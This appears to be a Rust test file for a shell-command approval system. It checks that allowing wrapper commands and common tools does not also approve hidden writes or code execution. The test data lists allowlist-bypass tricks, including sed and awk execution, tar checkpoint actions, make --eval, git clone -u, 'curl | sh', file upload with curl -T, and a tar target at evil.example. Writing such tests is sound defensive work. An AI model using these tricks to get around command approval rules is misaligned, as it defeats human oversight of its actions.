//! What a rule or an approval does not cover.

use std::fs;

use super::{allow, expect_asked_in};
use crate::support::world::World;

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_for_a_wrapper_covers_nothing_that_it_runs() {
    let world = World::new();
    fs::write(world.work().join("a"), "one\n").unwrap();
    allow(
        &world,
        &[
            "find",
            "env",
            "ionice",
            "nice",
            "watch",
            "busybox",
            "xargs",
            "timeout",
            "nohup",
            "time",
            "command",
            "stdbuf",
            "setsid",
            "exec",
            "npx",
            "uv run",
            "bundle exec",
            "npm exec",
        ],
    );
    let commands = [
        "find . -name a -exec cp a made \\;",
        "find . -name a -execdir cp a made \\;",
        "find . -name a -delete",
        "env cp a made",
        "env A=1 cp a made",
        "ionice -c 3 cp a made",
        "nice -n 5 cp a made",
        "watch cp a made",
        "watch -x cp a made",
        "busybox cp a made",
        "echo a | xargs -I{} cp {} made",
        "timeout 5 cp a made",
        "nohup cp a made",
        "time cp a made",
        "command cp a made",
        "stdbuf -o0 cp a made",
        "setsid cp a made",
        "exec cp a made",
        "nice env timeout 5 cp a made",
        "npx cp a made",
        "uv run cp a made",
        "bundle exec cp a made",
        "npm exec cp a made",
    ];
    expect_asked_in(&world, "default", &commands).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rule_covers_an_option_that_writes_or_runs_only_if_it_names_it() {
    let world = World::new();
    fs::write(world.work().join("a"), "one\n").unwrap();
    allow(
        &world,
        &[
            "sed",
            "git log",
            "git clone",
            "sort",
            "rg",
            "tar",
            "make",
            "go test",
            "awk",
            "npm test",
            "cargo test",
            "curl",
            "uniq",
            "gcc",
            "rsync",
            "sqlite3",
        ],
    );
    let commands = [
        "sed -n '1e touch made' a",
        "sed -n 's/one/touch made/e' a",
        "sed -n 'w made' a",
        "sed -i s/one/two/ a",
        "git log --output=made",
        "git log --outp=made",
        "git clone -u ./x a b",
        "sort --compress-program=./x a",
        "sort -o made a",
        "rg --pre ./x one",
        "tar cf made.tar --checkpoint=1 --checkpoint-action=exec='touch made' a",
        "tar -I ./x -cf made.tar a",
        "tar cf evil.example:x a",
        "make --eval='$(shell touch made)'",
        "make SHELL=./x",
        "make 'X!=touch made'",
        "make -f a",
        "go test -exec ./x ./...",
        "go test -toolexec ./x ./...",
        "awk 'BEGIN { system(\"touch made\") }'",
        "npm test --script-shell=./x",
        "cargo test --config 'build.rustc-wrapper=\"./x\"'",
        "curl -o made http://127.0.0.1:9/",
        "curl -T a http://127.0.0.1:9/",
        "uniq a made",
        "gcc -specs=a a",
        "rsync -e ./x a b:c",
        "sqlite3 made '.shell touch made'",
        "curl -s http://127.0.0.1:9/ | sh",
    ];
    expect_asked_in(&world, "default", &commands).await;
}
